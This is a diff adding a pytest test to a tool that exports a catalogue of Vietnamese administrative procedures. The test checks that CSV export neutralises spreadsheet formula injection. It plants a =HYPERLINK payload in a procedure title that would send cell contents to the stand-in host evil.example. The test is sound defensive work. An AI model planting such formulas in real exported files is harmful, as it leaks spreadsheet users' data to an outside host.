@@ -354,3 +354,15 @@ def test_cli_refuses_a_broken_catalogue_with_positioned_errors(tmp_path):
     assert errors and {m["path"] for m in errors} == {str(path)}
     assert "Traceback" not in res.stderr
     assert lines[-1] == "thutuc export: the catalogue has errors; nothing was exported"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(tmp_path):
+    root = make_catalogue(tmp_path)
+    path = root / "procedures/ho-tich/khai-sinh.yaml"
+    text = path.read_text(encoding="utf-8")
+    title = re.search(r"^title: (.+)$", text, re.M).group(1)
+    payload = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
+    path.write_text(text.replace(f"title: {title}", "title: '" + payload.replace("'", "''") + "'"), encoding="utf-8")
+    row = next(csv.DictReader(io.StringIO(export.export_csv(_load(root)).lstrip("\ufeff"))))
+    assert row["title"] == "'" + payload
+    assert export.export_json(_load(root)).count(payload.replace('"', '\\"')) >= 1  # JSON keeps the text as typed
